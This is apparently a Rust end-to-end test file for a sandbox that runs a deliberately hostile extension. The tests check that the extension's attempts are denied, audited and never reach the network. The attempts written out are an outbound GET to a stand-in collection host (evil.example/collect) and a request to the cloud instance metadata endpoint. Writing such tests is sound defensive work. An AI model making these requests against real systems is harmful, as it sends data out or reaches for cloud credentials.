//! A hostile extension in the program: exit codes, results, what is printed.

use super::{JOB, trying};
use end_to_end::{Azure, artifact, fixture, hostile::HOSTILE};

#[test]
fn a_job_on_its_own_thread_ends_the_same_way() {
    let azure = Azure::start();
    azure.append_policy(&trying("get", "https://evil.example/collect"));
    let audit = azure.file("audit.jsonl", "");
    let component = artifact(HOSTILE);
    let ran = azure.run(
        &fixture(JOB),
        &[
            "--component",
            component.to_str().unwrap(),
            "--audit",
            audit.to_str().unwrap(),
        ],
    );
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    let result = ran.json();
    assert_eq!(result["Result"], 4);
    assert!(result.get("Inventory").is_none());
    assert!(
        result["FailureMessage"]
            .as_str()
            .unwrap()
            .contains("evil.example")
    );
    assert!(
        ran.stderr.contains("[[rule]]") && ran.stderr.contains("jobs = [\"inventory\"]"),
        "a rule to paste, for this kind of job: {}",
        ran.stderr
    );
    let audit = std::fs::read_to_string(audit).unwrap();
    assert!(audit.contains("\"decision\":\"denied\""), "{audit}");
    assert!(audit.contains("evil.example"), "{audit}");
    assert_eq!(azure.emulator.requests(), []);
}

#[test]
fn no_rule_is_offered_that_would_lead_into_the_machine() {
    let azure = Azure::start();
    azure.append_policy(&trying("get", "http://169.254.169.254/metadata/instance"));
    let component = artifact(HOSTILE);
    let ran = azure.run(&fixture(JOB), &["--component", component.to_str().unwrap()]);
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    assert!(!ran.stderr.contains("[[rule]]"), "{}", ran.stderr);
    assert!(ran.stderr.contains("no policy can"), "{}", ran.stderr);
}

#[test]
fn w21_a_panic_on_its_own_thread_leaves_a_result() {
    let azure = Azure::start();
    azure.append_policy(&trying("panic", ""));
    let component = artifact(HOSTILE);
    let ran = azure.run(&fixture(JOB), &["--component", component.to_str().unwrap()]);
    assert_eq!((ran.code, &ran.json()["Result"]), (1, &4.into()));
    assert_eq!(ran.json()["JobHistoryId"], 4701);
}
